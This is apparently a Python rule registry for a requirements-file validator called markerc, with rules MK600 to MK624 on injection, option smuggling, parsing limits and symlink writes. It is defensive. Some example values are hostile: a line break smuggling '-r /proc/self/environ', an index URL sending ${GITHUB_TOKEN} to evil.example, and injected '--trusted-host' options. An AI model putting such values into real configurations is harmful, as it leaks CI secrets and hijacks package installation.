"""The rule registry, MK600-MK624: output safety, strict reading, files and signals."""

from __future__ import annotations

from markerc.catalogue.records import CHECK_COMPILE, Example, Rule

_SAFETY = "Output safety"
_READING = "Strict reading, files and signals"

RULES: tuple[Rule, ...] = (
    Rule(
        "MK600",
        "output-control-character",
        "error",
        "line break or control character in a value that reaches an output",
        _SAFETY,
        "A model name, a package source (`index_url`, `extra_index_url`, `find_links`, "
        "`trusted_host`), an entry, a `--set`/`--system`/`--index-url` value or a target's system "
        "version holds a character that pip, uv or a terminal acts on: a line break (LF, CR, VT, "
        "FF, FS/GS/RS 0x1c-0x1e, U+0085, U+2028, U+2029), ESC or another C0/C1 control, a bidi "
        "override or another invisible format character. In a requirements file or a uv input a "
        "line break starts a line of the attacker's choosing (`--find-links EVIL`, `-r "
        "/proc/self/environ`). markerc refuses the value (docs/security.md).",
        Example(("foo",), block='"find_links": ["wheels\\n-r /proc/self/environ"]'),
        Example(("foo",), block='"find_links": ["wheels"]'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK601",
        "environment-expansion",
        "error",
        "'${' in a value pip and uv would expand",
        _SAFETY,
        "pip and uv replace `${NAME}` in a requirements file (and uv in a package URL while it "
        "locks) with the environment variable's value, so a hub value such as "
        "`https://evil.example/${GITHUB_TOKEN}/simple` sends a CI secret to that server. markerc "
        "refuses `${` in every hub value it writes; only a value the user gives on the command "
        "line (`--index-url`, `--extra-index-url`, `--find-links`) may ask for expansion.",
        Example(("foo",), block='"index_url": "https://mirror.example/${TOKEN}/simple"'),
        Example(("foo",), block='"index_url": "https://mirror.example/simple"'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK602",
        "line-continuation",
        "error",
        "value ends with a backslash (a line continuation)",
        _SAFETY,
        "A line of a requirements file that ends with `\\` is joined with the next one, so a "
        "package source ending with a backslash swallows the line after it (pip then silently "
        "skips a requirement). markerc refuses such a value.",
        Example(("foo",), block='"trusted_host": ["mirror.example\\\\"]'),
        Example(("foo",), block='"trusted_host": ["mirror.example"]'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK603",
        "comment-in-value",
        "error",
        "' #' inside a value: pip and uv read a comment",
        _SAFETY,
        "pip and uv read whitespace followed by `#` as the start of a comment, even inside a "
        'quoted marker value, so `foo ; platform_version == "Ubuntu #1 SMP"` reaches them '
        'as `foo ; platform_version == "Ubuntu` (a syntax error, or a different marker). '
        "markerc refuses it; test a part of the value that has no ` #`.",
        Example(('foo ; platform_version == "Ubuntu #1 SMP"',)),
        Example(('foo ; "SMP" in platform_version',)),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK604",
        "option-in-value",
        "error",
        "option-looking text where one value belongs",
        _SAFETY,
        "A package source is written as `--index-url VALUE` (one line, one value): a value that "
        "starts with `-` or holds whitespace would give pip and uv more options "
        "(`https://mirror.example/simple --trusted-host evil.example`, `--no-index`). markerc "
        "refuses it; give each source its own list element.",
        Example(("foo",), block='"extra_index_url": ["https://mirror.example/simple --no-index"]'),
        Example(("foo",), block='"extra_index_url": ["https://mirror.example/simple"]'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK605",
        "invalid-package-source",
        "error",
        "package source that is not a URL, path or host",
        _SAFETY,
        "`index_url` and `extra_index_url` must be http://, https:// or file:// URLs with a host "
        "(file:// aside), `find_links` such a URL or a path, `trusted_host` a host name or "
        "`host:port`; an empty value, another scheme or a port that is not a number is refused.",
        Example(("foo",), block='"index_url": "mirror.example/simple"'),
        Example(("foo",), block='"index_url": "https://mirror.example/simple"'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK606",
        "invalid-system-version",
        "error",
        "system version that is not one version",
        _SAFETY,
        "A version in a target's `[system]` table or in `--system NAME=VERSION` is written into "
        "`NAME==VERSION` requirement lines, so it must be one PEP 440 version: a specifier "
        "(`2.8.0,<1`), a marker (`2.8;os_name=='nt'`), a URL or a line break is refused.",
        Example(
            ("#system_torch#",),
            args=("compile", "{hub}", "--engine", "vllm", "--system", "torch=2.8.0,<1"),
        ),
        Example(
            ("#system_torch#",),
            args=("compile", "{hub}", "--engine", "vllm", "--system", "torch=2.8.0"),
        ),
        stages=("compile", "cli"),
    ),
    Rule(
        "MK607",
        "shell-quote-in-option",
        "error",
        "quote or backslash in a package source",
        _SAFETY,
        "pip splits the option lines of a requirements file as a shell does (`shlex`), so a "
        "`\"`, `'` or `\\` inside an `index_url`, `extra_index_url`, `find_links` or "
        '`trusted_host` value changes the value pip uses (`https://a"b` loses its quote, '
        "`C:\\wheels` becomes `C:wheels`) or makes the whole file unreadable (`No closing "
        "quotation`). Percent-encode the character in a URL (`%22`, `%27`, `%5C`); write a path "
        "with forward slashes.",
        Example(("foo",), block='"index_url": "https://mirror.example/it\'s/simple"'),
        Example(("foo",), block='"index_url": "https://mirror.example/it%27s/simple"'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK620",
        "duplicate-key",
        "error",
        "duplicate key in a JSON object",
        _READING,
        "The standard JSON parsers keep one of two equal keys silently (Python the last, others the "
        "first), so a reviewer could read one `packages` list and the tools use the other. markerc "
        "refuses any object of a hub file (a model, a `virtualenv` block or any other value) that "
        "names a key twice, at the second one; keys are compared after decoding escapes.",
        Example(
            document='[{"model_name": "demo", "virtualenv": {"packages": ["a"], "packages": ["b"]}}]\n'
        ),
        Example(document='[{"model_name": "demo", "virtualenv": {"packages": ["a", "b"]}}]\n'),
        stages=CHECK_COMPILE,
    ),
    Rule(
        "MK621",
        "input-over-limit",
        "error",
        "input over a documented limit",
        _READING,
        "A number literal longer than 100 characters, a string markerc reads (a key, model name, "
        "engine, entry or URL) longer than 65 536 characters, arrays and objects nested more than "
        "100 levels, or a file larger than its limit (1 GiB for a hub, 64 MiB for TOML, locks and "
        "reports). The limits are in docs/security-reading.md; each error names where it was hit.",
        Example(
            document='[{"model_name": "demo", "size": '
            + "9" * 120
            + ', "virtualenv": {"packages": ["a"]}}]\n'
        ),
        Example(
            document='[{"model_name": "demo", "size": 9, "virtualenv": {"packages": ["a"]}}]\n'
        ),
        stages=CHECK_COMPILE,
    ),
    Rule(
        "MK622",
        "invalid-string-escape",
        "error",
        "string escape decodes to a lone surrogate or NUL",
        _READING,
        "`\\ud800` to `\\udfff` outside a surrogate pair decode to no character (nothing can "
        "encode them to UTF-8), and `\\u0000` ends a C string: both are refused at the escape, "
        "in any string of the file.",
        Example(document='[{"model_name": "demo\\ud800", "virtualenv": {"packages": ["a"]}}]\n'),
        Example(
            document='[{"model_name": "demo\\ud83d\\ude00", "virtualenv": {"packages": ["a"]}}]\n'
        ),
        stages=CHECK_COMPILE,
    ),
    Rule(
        "MK623",
        "write-through-symlink",
        "error",
        "output path leads out of the output folder",
        _READING,
        "`compile -o DIR/` and `lock --out DIR` write only inside DIR: a folder or file under it "
        "that is a symlink to somewhere outside (a model folder linked to `/etc`, say) is refused "
        "before any file is written. DIR itself may be a link (it is the command line's choice), "
        "and so may anything that stays inside DIR.",
        Example(
            ("alpha",),
            args=("compile", "{hub}", "--engine", "vllm", "-o", "out/"),
            files=(("elsewhere/keep.txt", "not markerc's\n"), ("out/.keep", "")),
            links=(("out/demo", "../elsewhere"),),
        ),
        Example(
            ("alpha",),
            args=("compile", "{hub}", "--engine", "vllm", "-o", "out/"),
            files=(("elsewhere/keep.txt", "not markerc's\n"), ("out/.keep", "")),
        ),
        stages=("compile", "lock"),
    ),
    Rule(
        "MK624",
        "fix-through-symlink",
        "error",
        "check --fix on a symlinked hub file",
        _READING,
        "`check --fix` rewrites files in place; a hub file that is a symlink would have it rewrite "
        "the file the link points to, which may be outside the repository. It is refused (before "
        "any file is written) unless `--fix-symlinks` says so; `check` without `--fix` reads "
        "symlinked files as usual.",
        Example(
            args=("check", "--fix", "linked.json"),
            document='{"packages": ["foo"]}\n',
            links=(("linked.json", "hub.json"),),
        ),
        Example(
            args=("check", "--fix", "--fix-symlinks", "linked.json"),
            document='{"packages": ["foo"]}\n',
            links=(("linked.json", "hub.json"),),
        ),
        stages=("cli",),
    ),
)
